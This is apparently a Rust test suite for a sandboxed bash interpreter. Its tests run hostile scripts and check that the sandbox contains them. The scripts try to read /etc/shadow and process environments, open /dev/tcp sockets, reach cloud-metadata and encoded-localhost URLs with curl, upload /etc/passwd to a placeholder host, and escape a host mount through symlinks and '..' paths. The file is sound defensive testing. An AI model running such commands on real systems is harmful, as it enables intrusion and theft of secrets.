//! Files: links that loop, names too long, trees too deep, and the host beyond a mount.

use std::os::unix::fs::symlink;

use jp_bash::{Bash, BashBuilder, Bounds, HostDir, HostMode, Limit};

use crate::support::{attack, attack_built, attack_deep, attack_within, text, tight};

#[test]
fn a30_symlinks_that_loop_are_errors() {
    attack("ln -s a b; ln -s b a; cat a; echo x > a; cd a; ls a/; readlink -f a; cp a c; cp -r a d; find -L . ; find -L a -name x; stat -L a; [ -e a ]; echo $?")
        .says("Too many levels of symbolic links");
    attack("ln -s . self; cat self/self/self/self/x; find -L . | head; ls -R | head -3; cp -rL self other; rm -r other; cd self/self/self; pwd; echo end")
        .exits(0);
    attack("ln -s /nowhere/x a; echo hi > a; cat a; mkdir /tmp/d; ln -s /tmp/d/new b; echo hi > b; cat /tmp/d/new")
        .exits(0)
        .prints("hi\n");
    let deep = "a/".repeat(500);
    attack_deep(&format!("mkdir a; ln -s ../a a/a; cat {deep}x; echo $?"));
    attack("mkdir d; cp -r d d/e; cp -r . d; mv d d/x; ls -R d | wc -l");
}

#[test]
fn a31_deep_trees_and_long_names_are_errors_or_work() {
    let dirs = "d/".repeat(1000);
    attack_deep(&format!(
        "mkdir -p {dirs}; echo $?; find . | wc -l; cp -r d e; rm -r d; ls"
    ));
    let bounds = Bounds {
        commands: 3_000,
        ..tight()
    };
    attack_within(
        bounds,
        "while mkdir d 2>/dev/null && cd d; do :; done; pwd | wc -c",
    )
    .stops_at_any(&[Limit::Commands, Limit::Memory]);
    attack(&format!("touch {}; echo $?", "n".repeat(10_000)))
        .prints("1\n")
        .says("File name too long");
    attack(&format!("touch {}; echo $?", "a/".repeat(10_000))).says("File name too long");
    attack("for i in {1..100000}; do : > f$i; done").stops_at_any(&[
        Limit::Commands,
        Limit::Memory,
        Limit::Loops,
    ]);
    attack("for i in {1..300}; do mktemp > /dev/null; mktemp -d > /dev/null; done; echo end")
        .exits(0);
    attack("mkdir a; for i in {1..300}; do ln a/x a/$i 2> /dev/null || : > a/x; done; rm -r a; ls");
}

#[test]
fn a31_many_files_in_one_directory_stop_at_the_memory_limit() {
    let bounds = Bounds {
        commands: 2_000_000,
        loops: 2_000_000,
        memory: 2 << 20,
        ..tight()
    };
    attack_within(bounds, "for ((i=0;;i++)); do : > f$i; done").stops_at(Limit::Memory);
    attack_within(bounds, "for ((i=0;;i++)); do mkdir $i; done").stops_at(Limit::Memory);
    attack_within(bounds, "for ((i=0;;i++)); do ln -s x $i; done").stops_at(Limit::Memory);
}

#[test]
fn a39_the_host_is_not_to_be_seen() {
    let host = std::fs::read_to_string("/proc/sys/kernel/hostname").unwrap_or_default();
    let host = format!("{}.", host.trim());
    attack("cat /proc/self/environ /proc/self/maps /proc/version /etc/passwd /etc/shadow; ls -a / /proc /sys /root; hostname; whoami; uname -a; echo $$ $PPID $UID $HOSTNAME; ulimit -a; env; date +%Z")
        .never_prints("CARGO")
        .never_prints("/root/")
        .never_prints(&host);
    attack("echo $$ $PPID $BASHPID")
        .exits(0)
        .prints("100 1 100\n");
    attack(
        "ls -l /proc/self/root/ /proc/1/root/ /dev/fd/ /dev/stdin; cat < /dev/tty; : > /dev/sda; ls /dev",
    );
}

#[test]
fn a40_no_sockets_hide_behind_dev() {
    for path in [
        "/dev/tcp/127.0.0.1/80",
        "/dev/udp/127.0.0.1/53",
        "/dev/tcp/localhost/22",
    ] {
        // Refused at once, whatever listens there.
        attack(&format!(
            "echo x > {path}; echo $?; cat < {path}; exec 3<>{path}; echo $?"
        ))
        .prints("1\n1\n");
    }
}

#[test]
fn a41_curl_without_a_grant_goes_nowhere() {
    for url in [
        "http://169.254.169.254/",
        "http://[::ffff:127.0.0.1]/",
        "http://2130706433/",
        "http://0177.0.0.1/",
        "http://user@127.0.0.1:80@example.com/",
        "https://example.com/",
        "file:///etc/passwd",
        "ftp://example.com/",
        "gopher://x/",
        "http://",
        "",
        "::::",
    ] {
        let outcome = attack(&format!("curl -sS '{url}'; echo $?")).never_prints("root:x");
        assert!(
            !text(&outcome.result.stdout).ends_with("\n0\n") && outcome.result.stdout != b"0\n",
            "{outcome}"
        );
    }
    attack("curl -K /etc/passwd http://x; curl --resolve x:80:127.0.0.1 http://x; curl -F 'a=@/etc/passwd' http://x; curl -d @/etc/passwd http://x; curl -H $'A: b\\r\\nC: d' http://x")
        .never_prints("root:x:0");
}

/// A host directory with a secret beside it.
fn host() -> (tempfile::TempDir, std::path::PathBuf) {
    let outer = tempfile::tempdir().unwrap();
    let inner = outer.path().join("data");
    std::fs::create_dir(&inner).unwrap();
    std::fs::create_dir(outer.path().join("data-secret")).unwrap();
    std::fs::write(outer.path().join("secret"), "TOPSECRET").unwrap();
    std::fs::write(outer.path().join("data-secret/x"), "TOPSECRET").unwrap();
    std::fs::write(inner.join("file"), "inside").unwrap();
    symlink("../secret", inner.join("up")).unwrap();
    symlink(outer.path().join("secret"), inner.join("abs")).unwrap();
    symlink("/etc/passwd", inner.join("passwd")).unwrap();
    symlink("..", inner.join("parent")).unwrap();
    symlink("loop", inner.join("loop")).unwrap();
    symlink("../new-file", inner.join("dangling")).unwrap();
    std::fs::hard_link(outer.path().join("secret"), outer.path().join("hard")).unwrap();
    (outer, inner)
}

fn mounted(dir: &std::path::Path, mode: HostMode) -> BashBuilder {
    Bash::builder()
        .limits(tight())
        .mount("/m", HostDir::open(dir).unwrap(), mode)
}

#[test]
fn b27_nothing_beyond_a_mount_can_be_read() {
    for mode in [HostMode::ReadOnly, HostMode::ReadWrite, HostMode::Overlay] {
        for script in [
            "cat /m/up /m/abs /m/passwd /m/parent/secret /m/../m/up /m/parent/data-secret/x",
            "cd /m/parent; cat secret; ls; cat ../secret; cat data-secret/x",
            "cd /m; cat ../secret ../../secret ../../../../../../etc/passwd",
            "cat /m/../../secret /m//../secret /m/./../secret '' /m/data/../../secret",
            "cp -rL /m /c; cat /c/*; cp /m/up /c2; cat /c2",
            "find -L /m -type f -exec cat {} +; grep -r TOP /m; grep -R TOP /m; cat /m/* /m/*/*",
            "ln -s ../secret /m/new; cat /m/new; ln -s .. /m/dir; cat /m/dir/secret; ln /m/up /m/h; cat /m/h",
            "mv /m/up /m/up2; cat /m/up2; rm -r /m/parent/secret; cat /m/loop",
            "exec 3< /m/up; cat <&3; x=$(</m/up); echo $x; . /m/up; mapfile < /m/abs; echo $MAPFILE; curl file:///m/up",
            "sed -n p /m/up; awk 1 /m/abs; jq -R . /m/up; sort /m/up; tail -c 99 /m/up; head /m/abs; readlink -f /m/up | cat; [ -e /m/up ] && echo exists",
            "cd /m; while :; do mkdir -p a && rm -rf a && ln -s .. a && cat a/secret && rm a; done",
        ] {
            let (outer, inner) = host();
            attack_built(mounted(&inner, mode), script)
                .never_prints("TOPSECRET")
                .never_prints("daemon:x:");
            assert_eq!(
                std::fs::read(outer.path().join("secret")).unwrap(),
                b"TOPSECRET"
            );
        }
    }
}

#[test]
fn b27_nothing_beyond_a_mount_can_be_written() {
    for mode in [HostMode::ReadOnly, HostMode::ReadWrite, HostMode::Overlay] {
        for script in [
            "echo x > /m/up; echo x > /m/abs; echo x > /m/dangling; echo x >> /m/up; echo x > /m/parent/new; echo x 1<>/m/up",
            "cp /m/file /m/dangling; cp /m/file /m/up; mv /m/file /m/parent/; tee /m/up /m/dangling <<< x; sed -i s/T/x/ /m/up /m/abs",
            "rm /m/parent/secret; rm -rf /m/parent; rm -rf /m/..; mkdir /m/parent/d; touch /m/parent/t; chmod 777 /m/up; touch -d @0 /m/up /m/abs",
            "ln -s ../new-file /m/l; echo x > /m/l; ln -s .. /m/d; echo x > /m/d/new-file; mkfifo /m/parent/p; ln /m/file /m/parent/h; mktemp -p /m/parent; mv /m/parent/secret /m/",
            "cd /m/parent && echo x > new-file; cd /m; echo x > ../new-file; > ../secret; > /m/../secret; mv up ../x; mv ../secret .; cp -r . ..",
        ] {
            let (outer, inner) = host();
            attack_built(mounted(&inner, mode), script);
            let mut names: Vec<String> = std::fs::read_dir(outer.path())
                .unwrap()
                .map(|entry| entry.unwrap().file_name().to_string_lossy().into_owned())
                .collect();
            names.sort();
            assert_eq!(
                names,
                ["data", "data-secret", "hard", "secret"],
                "{mode:?} {script}"
            );
            assert_eq!(
                std::fs::read(outer.path().join("secret")).unwrap(),
                b"TOPSECRET",
                "{script}"
            );
            assert_eq!(
                std::fs::read(outer.path().join("data-secret/x")).unwrap(),
                b"TOPSECRET"
            );
        }
    }
}

#[test]
fn b27_a_mount_that_may_only_be_read_stays_as_it_is() {
    for mode in [HostMode::ReadOnly, HostMode::Overlay] {
        let (_outer, inner) = host();
        let script = "cd /m; : > file; echo x >> file; exec 3<>file; echo x >&3; rm -f file; mv file y; ln file z; ln -s q r; mkdir s; touch -d @0 file; chmod 0 file; sed -i s/i/o/ file; rm -rf /m/* /m; mkfifo p; rmdir /m";
        attack_built(mounted(&inner, mode), script);
        assert_eq!(std::fs::read(inner.join("file")).unwrap(), b"inside");
        let count = std::fs::read_dir(&inner).unwrap().count();
        assert_eq!(count, 7, "{mode:?}");
    }
}

#[test]
fn b27_a_mount_writes_within_its_quota() {
    let (_outer, inner) = host();
    attack_built(mounted(&inner, HostMode::Overlay), "cat /dev/zero > /m/big")
        .stops_at(Limit::Memory);
    assert!(!inner.join("big").exists());
}
